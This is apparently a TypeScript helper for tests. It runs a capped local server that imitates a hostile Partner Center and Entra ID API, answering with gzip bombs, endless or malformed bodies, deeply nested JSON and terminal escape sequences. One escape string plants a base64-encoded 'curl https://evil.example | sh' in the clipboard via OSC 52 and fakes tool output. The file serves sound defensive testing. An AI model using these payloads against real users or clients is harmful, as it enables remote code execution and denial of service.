// A stand-in for a hostile or broken Partner Center and Entra ID (not a test file itself): a
// node:http server on 127.0.0.1 that answers every /v1/ call (GET or PUT) and every token
// request with one chosen misbehaviour, records when each request came, and counts what it sent.
// Bounded on its side too: big bodies are streamed (a gzip bomb is zlib over a stream of zeros,
// never a buffer), each answer stops at a byte and time cap, and the server closes itself after
// `lifetimeMs`, so a client that does not stop reading cannot make the test hold gigabytes.
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Readable, Transform } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import zlib from 'node:zlib';

export type HostileAnswer =
  /** 200, Content-Encoding gzip: `inflatedBytes` of zeros (default 2 GiB) from a few MB on the wire. */
  | { kind: 'gzip-bomb'; inflatedBytes?: number }
  /** 200, chunked, a JSON string that never ends (until the server's caps). */
  | { kind: 'endless' }
  /** 200, Content-Encoding gzip, bytes that are not gzip. */
  | { kind: 'bad-gzip' }
  /** 200, Content-Encoding br, a brotli stream cut in half. */
  | { kind: 'bad-brotli' }
  /** 200, a JSON object holding arrays nested `levels` deep (default 100,000). */
  | { kind: 'deep-json'; levels?: number }
  /** An ApiFault (or, at the token endpoint, an OAuth error) full of terminal escapes, `descriptionBytes` long. */
  | { kind: 'escapes'; status?: number; descriptionBytes?: number }
  /** 429 with this Retry-After header. */
  | { kind: 'retry-after'; value: string };

/** What the escape answers carry: clear screen, cursor home, a fake line of engine output, an OSC 52 clipboard write. */
export const ESCAPES =
  '\u001b[2J\u001b[H\nApply complete! Resources: 0 added, 0 changed, 0 destroyed.\r\n' +
  `\u001b]52;c;${Buffer.from('curl https://evil.example | sh').toString('base64')}\u0007` +
  '\u009b31m\u202eevil';

/** A word only the escape answers' description holds, to count how often it is shown. */
export const DESCRIPTION_MARK = 'DESCRIPTION-MARK';

/** The MS-RequestId the escape answers echo: an 8-bit CSI (C1, allowed in a header) and 10,000 characters. */
export const HOSTILE_REQUEST_ID = `\u009b2J${'r'.repeat(10_000)}`;

export interface HostileApiOptions {
  /** The answer to every /v1/ call. */
  api?: HostileAnswer;
  /** The answer of the token endpoint (any path ending in /oauth2/v2.0/token). */
  token?: HostileAnswer;
  /** The server closes itself, connections and all, after this long. Default 60 s. */
  lifetimeMs?: number;
  /** No answer body goes on past this many bytes on the wire. Default 1 GiB. */
  maxBodyBytes?: number;
  /** No answer body takes longer than this. Default 20 s. */
  maxBodyMs?: number;
}

export interface HostileRequest {
  method: string;
  path: string;
  /** Date.now() when it arrived. */
  at: number;
}

export interface HostileApi {
  url: string;
  requests: HostileRequest[];
  /** Body bytes written to the wire, all answers together. */
  bytesSent(): number;
  /** Bytes produced before compression (the bomb's zeros, the endless body), all answers together. */
  bytesProduced(): number;
  close(): Promise<void>;
}

const GZIP = 'gzip';

export async function startHostileApi(options: HostileApiOptions): Promise<HostileApi> {
  const maxBodyBytes = options.maxBodyBytes ?? 1024 ** 3;
  const maxBodyMs = options.maxBodyMs ?? 20_000;
  const requests: HostileRequest[] = [];
  let sent = 0;
  let produced = 0;

  /** Streams `source` (through `encoder`, if any) to `res`, counting, within the caps. */
  const stream = async (res: ServerResponse, source: Readable, encoder?: Transform): Promise<void> => {
    const started = Date.now();
    const meter = new Transform({
      transform(chunk: Buffer, _enc, done) {
        sent += chunk.length;
        if (sent > maxBodyBytes || Date.now() - started > maxBodyMs) done(new Error('hostile-api: body cap reached'));
        else done(null, chunk);
      },
    });
    const counted = source.on('data', (chunk: Buffer) => (produced += chunk.length));
    await (encoder ? pipeline(counted, encoder, meter, res) : pipeline(counted, meter, res)).catch(() => {
      res.destroy(); // the client went away, or a cap was reached: either way this answer is over
    });
  };

  const answer = async (how: HostileAnswer, req: IncomingMessage, res: ServerResponse, oauth: boolean) => {
    switch (how.kind) {
      case 'gzip-bomb':
        res.writeHead(200, { 'Content-Type': 'application/json', 'Content-Encoding': GZIP });
        return stream(res, zeros(how.inflatedBytes ?? 2 * 1024 ** 3), zlib.createGzip({ level: 9 }));
      case 'endless':
        res.writeHead(200, { 'Content-Type': 'application/json' });
        return stream(res, endless());
      case 'bad-gzip':
        res.writeHead(200, { 'Content-Type': 'application/json', 'Content-Encoding': GZIP });
        return void res.end('this is not gzip data at all, whatever the header says');
      case 'bad-brotli': {
        const whole = zlib.brotliCompressSync(JSON.stringify({ companyName: 'Contoso', taxId: 'x'.repeat(4000) }));
        res.writeHead(200, { 'Content-Type': 'application/json', 'Content-Encoding': 'br' });
        return void res.end(whole.subarray(0, Math.floor(whole.length / 2)));
      }
      case 'deep-json': {
        const levels = how.levels ?? 100_000;
        res.writeHead(200, { 'Content-Type': 'application/json' });
        return void res.end(`{"companyName":"Contoso","deep":${'['.repeat(levels)}${']'.repeat(levels)}}`);
      }
      case 'escapes': {
        const description = `${ESCAPES} ${DESCRIPTION_MARK} ${'d'.repeat(how.descriptionBytes ?? 5 * 1024 * 1024)}`;
        const body = oauth
          ? { error: `invalid_grant${ESCAPES}`, error_description: `AADSTS70000: ${description}\r\nTrace ID: 1` }
          : { code: `2001${ESCAPES}`, description };
        res.writeHead(how.status ?? 400, { 'Content-Type': 'application/json', 'MS-RequestId': HOSTILE_REQUEST_ID });
        return void res.end(JSON.stringify(body));
      }
      case 'retry-after':
        res.writeHead(429, { 'Content-Type': 'application/json', 'Retry-After': how.value });
        return void res.end(JSON.stringify({ statusCode: 429, message: 'Rate limit is exceeded.' }));
    }
  };

  const server: Server = createServer((req, res) => {
    requests.push({ method: req.method ?? '', path: req.url ?? '', at: Date.now() });
    req.resume(); // the request body does not matter
    const oauth = /\/oauth2\/v2\.0\/token$/.test(req.url ?? '');
    const how = oauth ? options.token : req.url?.startsWith('/v1/') ? options.api : undefined;
    if (!how) {
      res.writeHead(404, { 'Content-Type': 'application/json' });
      res.end(JSON.stringify({ code: 404, description: 'not part of this hostile scenario' }));
      return;
    }
    void answer(how, req, res, oauth);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const close = () =>
    new Promise<void>((resolve) => {
      clearTimeout(lifetime);
      server.closeAllConnections();
      server.close(() => resolve());
    });
  const lifetime = setTimeout(() => void close(), options.lifetimeMs ?? 60_000);
  lifetime.unref();
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    requests,
    bytesSent: () => sent,
    bytesProduced: () => produced,
    close,
  };
}

/** `total` zero bytes, 64 KiB at a time, produced only as fast as they are read. */
function zeros(total: number): Readable {
  const chunk = Buffer.alloc(64 * 1024);
  let left = total;
  return new Readable({
    read() {
      if (left <= 0) return void this.push(null);
      const n = Math.min(left, chunk.length);
      left -= n;
      this.push(n === chunk.length ? chunk : chunk.subarray(0, n));
    },
  });
}

/** The start of a JSON object whose string value never ends (the caps of `stream` end it). */
function endless(): Readable {
  const filler = Buffer.alloc(64 * 1024, 'x');
  let started = false;
  return new Readable({
    read() {
      if (!started) {
        started = true;
        this.push('{"companyName":"');
      }
      this.push(filler);
    },
  });
}
